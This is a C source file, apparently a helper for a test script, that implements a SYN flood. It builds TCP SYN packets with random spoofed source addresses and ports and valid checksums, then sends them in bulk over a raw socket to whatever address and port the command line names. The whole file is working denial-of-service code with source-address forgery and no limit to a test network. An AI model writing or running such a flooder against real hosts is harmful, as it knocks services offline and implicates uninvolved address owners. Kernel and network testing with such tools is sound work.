// SPDX-License-Identifier: GPL-2.0-only
/*
 * synflood.c - SYNs from addresses that nobody has
 *
 * Purpose: the flood of synflood.sh: each SYN from another address and port, by a
 *          seed, and with sound checksums; whoever is meant answers into nothing.
 * Use:     synflood ADDRESS PORT COUNT   prints "sent N", and "again N": how often the
 *          kernel had no room and the same SYN went once more
 * Exit:    0; 1 a SYN could not be sent; 2 usage
 */
#define _GNU_SOURCE
#include <errno.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#include "syn.h"

static uint64_t state = 88172645463325252ull;

static uint32_t roll(void)
{
	state ^= state << 13;
	state ^= state >> 7;
	state ^= state << 17;
	return (uint32_t)(state >> 16);
}

/* one that could be anybody's: not 0, 10 (ours), 127, nor 224 and above */
static uint32_t any_address(void)
{
	uint32_t a, net;

	do {
		a = roll();
		net = a >> 24;
	} while (!net || net == 10 || net == 127 || net >= 224);
	return htonl(a);
}

static void make_syn(struct syn *s, in_addr_t to, uint16_t port)
{
	memset(s, 0, sizeof(*s));
	s->ip.version = 4;
	s->ip.ihl = 5;
	s->ip.ttl = 64;
	s->ip.protocol = IPPROTO_TCP;
	s->ip.tot_len = htons(sizeof(*s));
	s->ip.saddr = any_address();
	s->ip.daddr = to;
	s->tcp.source = htons((uint16_t)(1024 + roll() % 64000));
	s->tcp.dest = htons(port);
	s->tcp.seq = roll();
	s->tcp.doff = 5;
	s->tcp.syn = 1;
	s->tcp.window = htons(65535);
	s->tcp.check = tcp_sum(s);
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	unsigned long i, n, again = 0;
	struct syn s;
	int fd;

	if (argc != 4 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1 || atoi(argv[2]) < 1 ||
	    atoi(argv[2]) > 65535 || atol(argv[3]) < 1) {
		fprintf(stderr, "usage: synflood ADDRESS PORT COUNT\n");
		return 2;
	}
	n = strtoul(argv[3], NULL, 10);
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	for (i = 0; i < n; i++) {
		make_syn(&s, to.sin_addr.s_addr, (uint16_t)atoi(argv[2]));
		while (sendto(fd, &s, sizeof(s), 0, (struct sockaddr *)&to, sizeof(to)) < 0) {
			if (errno != ENOBUFS) {
				perror("synflood: sendto");
				return 1;
			}
			again++;
			sched_yield();
		}
	}
	printf("sent %lu\nagain %lu\n", n, again);
	return 0;
}
